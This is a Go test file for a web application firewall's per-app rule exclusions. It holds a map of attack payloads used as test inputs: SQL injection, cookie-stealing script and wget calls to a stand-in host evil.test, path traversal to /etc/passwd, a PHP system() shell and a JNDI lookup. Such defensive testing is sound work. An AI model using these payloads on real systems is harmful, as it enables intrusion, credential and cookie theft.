package edge

import (
	"encoding/json"
	"encoding/xml"
	"fmt"
	"net/url"
	"strings"
	"testing"
)

// An appAsk is a request to a program.
type appAsk struct {
	name    string
	request string // method and target
	kind    string // content type; empty with a body: a form
	body    string
	header  [][2]string
	level   int // paranoia; 0: 1
}

const (
	formType = "application/x-www-form-urlencoded"
	jsonType = "application/json"
	xmlType  = "text/xml"
)

// form encodes pairs of names and values.
func formOf(pairs ...string) string {
	var out []string
	for i := 0; i < len(pairs); i += 2 {
		out = append(out, url.QueryEscape(pairs[i])+"="+url.QueryEscape(pairs[i+1]))
	}
	return strings.Join(out, "&")
}

// multipart writes pairs of names and values as a form with files.
func multipart(pairs ...string) string {
	var out strings.Builder
	for i := 0; i < len(pairs); i += 2 {
		fmt.Fprintf(&out, "--b\r\nContent-Disposition: form-data; name=\"%s\"\r\n\r\n%s\r\n", pairs[i], pairs[i+1])
	}
	return out.String() + "--b--\r\n"
}

const appMultipart = "multipart/form-data; boundary=b"

// What people write in such programs: markup, scripts of an embedded player, and code to read.
const (
	markup = `<h2>Backups</h2><p class="x" style="color:red" onclick="return false">Don't forget: <a href="https://blog.test/?p=1">read this</a></p>` +
		`<script src="https://player.test/embed.js"></script><iframe src="https://player.test/v/1"></iframe>`
	code = "<pre><code>cd /var/www; tar czf /tmp/a.tgz . && cat /etc/passwd | wc -l\n" +
		"SELECT id, name FROM users WHERE id = 1 OR 1=1 UNION SELECT login, pass FROM admins;\n" +
		"<?php system($_GET['cmd']); include('../../wp-config.php'); ?>\n" +
		"powershell.exe Get-Process; document.cookie; ${jndi:ldap://a.test/x}</code></pre>"
	password = `x' OR 1=1; -- <script>$(id)`
)

// attacks are what is refused wherever an app says nothing.
var attacks = map[string]string{
	"SQL injection":    `1' UNION SELECT user_login,user_pass FROM wp_users-- -`,
	"script":           `<script>document.location='https://evil.test/?'+document.cookie</script>`,
	"command":          `;cat /etc/passwd;wget https://evil.test/x.sh`,
	"file inclusion":   `../../../../../../etc/passwd`,
	"PHP":              `<?php system($_GET['cmd']); ?>`,
	"class of Java":    `${jndi:ldap://evil.test/x}`,
	"object of PHP":    `O:8:"stdClass":1:{s:1:"a";s:1:"b";}`,
	"remote inclusion": `http://192.0.2.1/shell.txt?`,
}

// appNode serves a vhost without apps and one with the app, at each level: bare1.test, app2.test.
func appNode(t *testing.T, app string) *node {
	t.Helper()
	doc := "vhosts:\n"
	for level := 1; level <= 2; level++ {
		doc += fmt.Sprintf("  bare%[1]d.test: {backends: [http://127.0.0.1:9], waf: {mode: block, paranoia: %[1]d}}\n"+
			"  app%[1]d.test: {backends: [http://127.0.0.1:9], waf: {mode: block, paranoia: %[1]d, apps: [%[2]s]}}\n", level, app)
	}
	return start(t, doc)
}

// inspect shows a request to the WAF of a vhost.
func (n *node) inspect(t *testing.T, host string, a appAsk) *Finding {
	t.Helper()
	method, target, ok := strings.Cut(a.request, " ")
	if !ok {
		t.Fatalf("%s: bad request %q", a.name, a.request)
	}
	p := Probe{Method: method, URL: "https://" + host + target, Body: []byte(a.body), Fields: append([][2]string{
		{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
		{"Accept", "text/html,application/json;q=0.9,*/*;q=0.8"},
		{"Accept-Language", "en-GB,en;q=0.5"},
	}, a.header...)}
	switch {
	case a.kind != "":
		p.Fields = append(p.Fields, [2]string{"Content-Type", a.kind})
	case a.body != "":
		p.Fields = append(p.Fields, [2]string{"Content-Type", formType})
	}
	got, err := n.Probe(p)
	if err != nil {
		t.Fatalf("%s: %v", a.name, err)
	}
	return got
}

func summaryOf(f *Finding) string {
	out := fmt.Sprintf("%s, score %d", f.Verdict, f.Score)
	for _, m := range f.Matches {
		out += fmt.Sprintf("\n\t%d %s %.60q", m.ID, m.Target, m.Data)
	}
	return out
}

// testApp proves of each usual request that the bare rules refuse it and that the app lets it pass, and
// of each attack that the app leaves it refused.
func testApp(t *testing.T, app string, usual, hostile []appAsk) {
	n := appNode(t, app)
	for _, a := range usual {
		t.Run("passes/"+a.name, func(t *testing.T) {
			level := max(a.level, 1)
			if got := n.inspect(t, fmt.Sprintf("bare%d.test", level), a); got.Verdict != "block" {
				t.Errorf("without the app: %s", summaryOf(got))
			}
			if got := n.inspect(t, fmt.Sprintf("app%d.test", level), a); got.Verdict != "pass" || len(got.Matches) > 0 {
				t.Errorf("with the app: %s", summaryOf(got))
			}
		})
	}
	if !raceEnabled { // it would take a minute
		t.Run("needed", func(t *testing.T) { neededBy(t, app, usual) })
	}
	for _, a := range hostile {
		t.Run("refused/"+a.name, func(t *testing.T) {
			if got := n.inspect(t, "app1.test", a); got.Verdict != "block" {
				t.Errorf("with the app: %s", summaryOf(got))
			}
		})
	}
}

// quoted is a text in JSON, as browsers write it.
func quoted(text string) string {
	var out strings.Builder
	enc := json.NewEncoder(&out)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(text); err != nil {
		panic(err)
	}
	return strings.TrimSpace(out.String())
}

// escaped is a text in XML.
func escaped(text string) string {
	var out strings.Builder
	if err := xml.EscapeText(&out, []byte(text)); err != nil {
		panic(err)
	}
	return out.String()
}
